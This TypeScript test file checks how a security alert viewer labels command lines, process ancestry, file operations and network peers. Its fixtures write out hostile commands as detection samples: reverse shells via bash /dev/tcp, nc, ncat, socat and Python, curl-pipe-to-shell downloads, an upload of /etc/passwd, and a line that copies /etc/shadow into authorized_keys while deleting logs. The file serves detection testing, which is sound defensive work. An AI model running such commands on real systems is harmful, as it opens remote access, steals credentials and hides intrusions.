import { describe, expect, it } from 'vitest';
import { type Alert, readAlertText } from '../../alerts/index.ts';
import { AlertView } from './view.ts';

function view(fields: Record<string, unknown>, rule = 'R', output = ''): AlertView {
  const record = { rule, priority: 'Notice', output, time: '2026-01-01T00:00:00Z', output_fields: fields };
  const alert = readAlertText(JSON.stringify(record)).alerts[0] as Alert;
  return new AlertView(alert);
}
const cmd = (cmdline: string) => view({ 'proc.cmdline': cmdline });

describe('fields of command lines', () => {
  it.each([
    ['bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1', true],
    ['renamed -c /tmp/renamed -i >& /dev/tcp/203.0.113.45/443 0>&1', true],
    ['nc 203.0.113.1 443 -e /bin/bash', true],
    ['ncat --exec /bin/sh 203.0.113.1 443', true],
    ['socat tcp-connect:203.0.113.1:443 exec:/bin/sh,pty', true],
    ['sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.1 443 > /tmp/f', true],
    [
      'python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.1",443));pty.spawn("/bin/sh")',
      true,
    ],
    ['sh -c nc -z -w1 127.0.0.1 8443 || exit 0', false],
    ['bash -c exec 3<>/dev/tcp/localhost/8080; echo ok', true],
    ['curl -s http://example.org', false],
  ])('%s: net_shell is %s', (line, expected) => {
    expect(cmd(line).get('yarak.cmd.net_shell')).toBe(expected);
  });

  it.each([
    ['sh -c curl -s http://203.0.113.1/a | sh', true],
    ['bash -c bash <(curl -s http://203.0.113.1/a)', true],
    ['sh -c wget http://203.0.113.1/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', true],
    ['sh -c curl -s http://localhost:8080/health | sh', false],
    ['sh -c curl -fsS http://203.0.113.1/a -o /opt/data.json', false],
  ])('%s: runs_download is %s', (line, expected) => {
    expect(cmd(line).get('yarak.cmd.runs_download')).toBe(expected);
  });

  it('names what is written, deleted, sent and asked', () => {
    const line = cmd(
      'sh -c cat /etc/shadow | tee /root/.ssh/authorized_keys; rm -f ~/.bash_history /var/log/auth.log',
    );
    expect(line.get('yarak.cmd.write_kinds')).toEqual(['ssh-authorized-keys']);
    expect(line.get('yarak.cmd.delete_kinds')).toEqual(['log']);
    expect(line.get('yarak.cmd.path_kinds')).toContain('password-hashes');
    expect(cmd('curl -F f=@/etc/passwd http://203.0.113.1').get('yarak.cmd.uploads')).toBe(true);
    expect(cmd('sh -c nc -z -w1 127.0.0.1 8443').get('yarak.cmd.loopback_only')).toBe(true);
    expect(cmd('ls').get('yarak.cmd.loopback_only')).toBeUndefined();
    expect(cmd('ls').get('yarak.cmd.writes')).toBeNull();
  });
});

describe('fields of processes, files and peers', () => {
  it('finds what started the work, by path before name', () => {
    const cron = {
      'proc.pname': 'sh',
      'proc.pexepath': '/usr/bin/dash',
      'proc.aname[2]': 'cron',
      'proc.aexepath[2]': '/usr/sbin/cron',
    };
    expect(view(cron).get('yarak.anc.origin')).toBe('cron');
    expect(view(cron).get('yarak.anc.origin_by')).toBe('exepath');
    expect(view({ 'proc.pname': 'cron' }).get('yarak.anc.origin_by')).toBe('name');
    // A program that only calls itself cron.
    expect(view({ ...cron, 'proc.aexepath[2]': '/tmp/cron' }).get('yarak.anc.origin')).toBeUndefined();
    expect(view({ 'proc.name': 'x' }).get('yarak.anc.origin')).toBeUndefined();
  });

  it('tells operations from flags, event types, then the rule author’s words', () => {
    const file = { 'fd.name': '/etc/cron.d/x', 'evt.type': 'openat' };
    expect(view({ ...file, 'evt.arg.flags': 'O_RDONLY' }).get('yarak.file.op')).toBe('read');
    expect(view(file, 'R', 'Notice File below /etc opened for writing | file=x').get('yarak.file.op')).toBe(
      'write',
    );
    expect(view(file).get('yarak.file.op')).toBeUndefined();
    // Values in the output are the attacker's, not the author's.
    expect(view(file, 'R', 'Notice Odd (file=/tmp/opened for writing)').get('yarak.file.op')).toBeUndefined();
    expect(
      view({ 'evt.type': 'symlinkat', 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/x' }).get(
        'yarak.file.kind',
      ),
    ).toBe('password-hashes');
  });

  it('tells how far a peer is', () => {
    const peer = (name: string) => view({ 'fd.name': name }).get('yarak.net.reach');
    expect(peer('10.0.0.1:5->169.254.169.254:80')).toBe('metadata');
    expect(peer('10.0.0.1:5->203.0.113.1:80')).toBe('public');
    expect(peer('10.0.0.1:5->127.0.0.1:80')).toBe('loopback');
    expect(peer('/etc/passwd')).toBeNull();
  });

  it('writes image names out', () => {
    const name = (image: string) =>
      view({ 'container.id': 'c', 'container.image.repository': image }).get('yarak.image.name');
    expect(name('nginx')).toBe('docker.io/library/nginx');
    expect(name('falcosecurity/falco')).toBe('docker.io/falcosecurity/falco');
    expect(name('registry.example.com:5000/a/b')).toBe('registry.example.com:5000/a/b');
  });
});
